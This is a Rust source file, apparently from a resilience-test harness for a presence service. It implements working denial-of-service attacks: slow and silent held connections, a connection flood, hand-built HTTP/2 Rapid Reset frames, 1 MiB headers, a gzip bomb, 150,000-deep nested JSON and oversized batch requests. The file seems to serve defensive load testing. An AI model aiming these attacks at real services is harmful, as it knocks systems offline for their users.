//! The attacks, and the sink that takes the place of the service.

use std::{io::Write, net::SocketAddr, process, sync::Arc, time::Duration};

use clap::ValueEnum;
use flate2::{Compression, write::GzEncoder};
use presenced_tools::machine::cpu_seconds;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpListener, TcpStream},
    runtime,
    task::JoinSet,
    time::{interval, sleep, timeout},
};

/// A kind of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Attack {
    /// 1,000 connections that each send a byte a second.
    Slow,
    /// 1,000 connections that send nothing.
    Silent,
    /// 1,000 connections that send half of HTTP/2's preface.
    HalfOpen,
    /// 10,000 connections at once.
    Flood,
    /// 20,000 requests a second over HTTP/2, each cancelled at once.
    RapidReset,
    /// 100 headers of 1 MiB a second.
    Headers,
    /// 20 bodies a second of 250 KiB that decompress to 250 MiB.
    GzipBomb,
    /// 50 JSON bodies a second of 750 KiB, nested 150,000 deep.
    Nesting,
    /// 20 `$batch` requests a second of 1 MiB, with 20,000 items.
    Batch,
}

impl Attack {
    pub(crate) fn all() -> Vec<Self> {
        Self::value_variants().to_vec()
    }

    /// The name on the command line, and the description in `--help`.
    pub(crate) fn texts(self) -> (String, String) {
        let value = self.to_possible_value().expect("no attack is hidden");
        (value.get_name().to_owned(), value.get_help().map(ToString::to_string).unwrap_or_default())
    }

    /// Whether the target is the gRPC API; else it is the HTTP API.
    pub(crate) fn is_for_grpc(self) -> bool {
        matches!(self, Self::HalfOpen | Self::RapidReset)
    }
}

/// The path with the largest limit of the request body.
const BULK: &str = "/v1.0/communications/getPresencesByUserId";

/// A path that accepts a compressed body.
const SET: &str = "/v1.0/users/victim/presence/setPresence";

/// Attacks for `duration`, and prints the processor time of this process in seconds.
pub(crate) fn run(kind: Attack, address: SocketAddr, duration: Duration) {
    let runtime = runtime::Builder::new_current_thread().enable_all().build().unwrap();
    // An attack has no end of its own.
    let _ = runtime.block_on(async { timeout(duration, attack(kind, address)).await });
    println!("{}", cpu_seconds(process::id()));
}

async fn attack(kind: Attack, address: SocketAddr) {
    let post = |path: &str, headers: &str, body: &[u8]| {
        let length = body.len();
        let head =
            format!("POST {path} HTTP/1.1\r\nhost: localhost\r\ncontent-length: {length}\r\n{headers}\r\n");
        [head.as_bytes(), body].concat()
    };
    match kind {
        Attack::Slow => hold(address, 1_000, b"GET /v1.0/users/a/presence HTTP/1.1\r\n", true).await,
        Attack::Silent => hold(address, 1_000, b"", false).await,
        Attack::HalfOpen => hold(address, 1_000, b"PRI * HTTP/2.0\r\n", false).await,
        Attack::Flood => hold(address, 10_000, b"", false).await,
        Attack::RapidReset => repeat(address, 100, rapid_reset(200)).await,
        Attack::Headers => {
            let header = format!("GET / HTTP/1.1\r\nhost: localhost\r\nx: {}\r\n\r\n", "x".repeat(1 << 20));
            repeat(address, 100, header.into_bytes()).await;
        }
        Attack::GzipBomb => {
            let bomb = post(SET, "content-encoding: gzip\r\n", &bomb());
            repeat(address, 20, bomb).await;
        }
        Attack::Nesting => repeat(address, 50, post(BULK, "", "{\"a\":".repeat(150_000).as_bytes())).await,
        Attack::Batch => {
            let items = vec![r#"{"id":"1","method":"GET","url":"/users/a/presence"}"#; 20_000].join(",");
            repeat(address, 20, post("/v1.0/$batch", "", format!("{{\"requests\":[{items}]}}").as_bytes()))
                .await;
        }
    }
}

/// 250 MiB of zeros, compressed to about 250 KiB.
fn bomb() -> Vec<u8> {
    let mut compressed = GzEncoder::new(Vec::new(), Compression::best());
    for _ in 0..250 {
        compressed.write_all(&vec![0; 1 << 20]).unwrap();
    }
    compressed.finish().unwrap()
}

/// A connection's bytes with this number of requests, each cancelled right after it.
fn rapid_reset(requests: u32) -> Vec<u8> {
    // The preface, and empty SETTINGS.
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0".to_vec();
    // POST, http, and two literals without indexing.
    let path = b"/presence.v1.PresenceService/GetPresence";
    let mut header = vec![0x83, 0x86, 0x04, u8::try_from(path.len()).unwrap()];
    header.extend_from_slice(path);
    header.extend_from_slice(b"\x0f\x10\x10application/grpc");
    for request in 0..requests {
        let stream = (request * 2 + 1).to_be_bytes();
        let length = u32::try_from(header.len()).unwrap().to_be_bytes();
        bytes.extend_from_slice(&length[1..]);
        bytes.extend_from_slice(&[0x01, 0x04]);
        bytes.extend_from_slice(&stream);
        bytes.extend_from_slice(&header);
        // RST_STREAM with CANCEL.
        bytes.extend_from_slice(&[0, 0, 4, 0x03, 0]);
        bytes.extend_from_slice(&stream);
        bytes.extend_from_slice(&8_u32.to_be_bytes());
    }
    bytes
}

/// Holds connections open that start with `begin`, and optionally send a byte a second.
/// A connection that the other side closes is opened again a second later.
async fn hold(address: SocketAddr, connections: usize, begin: &'static [u8], trickle: bool) {
    let mut tasks = JoinSet::new();
    for _ in 0..connections {
        tasks.spawn(async move {
            loop {
                if let Ok(mut stream) = TcpStream::connect(address).await {
                    let _ = stream.write_all(begin).await;
                    hold_one(&mut stream, trickle).await;
                }
                sleep(Duration::from_secs(1)).await;
            }
        });
    }
    tasks.join_all().await;
}

async fn hold_one(stream: &mut TcpStream, trickle: bool) {
    let mut bytes = [0; 1_024];
    loop {
        match timeout(Duration::from_secs(1), stream.read(&mut bytes)).await {
            Ok(Ok(0) | Err(_)) => return,
            Err(_) if trickle => {
                if stream.write_all(b"x").await.is_err() {
                    return;
                }
            }
            Ok(Ok(_)) | Err(_) => {}
        }
    }
}

/// Sends the bytes at this rate, each time on a new connection.
async fn repeat(address: SocketAddr, per_second: u32, bytes: Vec<u8>) {
    let bytes = Arc::new(bytes);
    let mut tasks = JoinSet::new();
    let mut ticks = interval(Duration::from_secs(1) / per_second);
    loop {
        ticks.tick().await;
        let bytes = Arc::clone(&bytes);
        tasks.spawn(async move {
            let Ok(mut stream) = TcpStream::connect(address).await else { return };
            let _ = stream.write_all(&bytes).await;
            // Waits for a response, for a second at most.
            let _ = timeout(Duration::from_secs(1), stream.read(&mut [0; 1_024])).await;
        });
        while tasks.try_join_next().is_some() {}
    }
}

/// Accepts connections and discards all bytes; prints its address.
pub(crate) fn sink() {
    let runtime = runtime::Builder::new_current_thread().enable_all().build().unwrap();
    runtime.block_on(async {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        println!("{}", listener.local_addr().unwrap());
        loop {
            let Ok((mut stream, _)) = listener.accept().await else { continue };
            tokio::spawn(async move {
                let mut bytes = vec![0; 65_536];
                while matches!(stream.read(&mut bytes).await, Ok(1..)) {}
            });
        }
    });
}
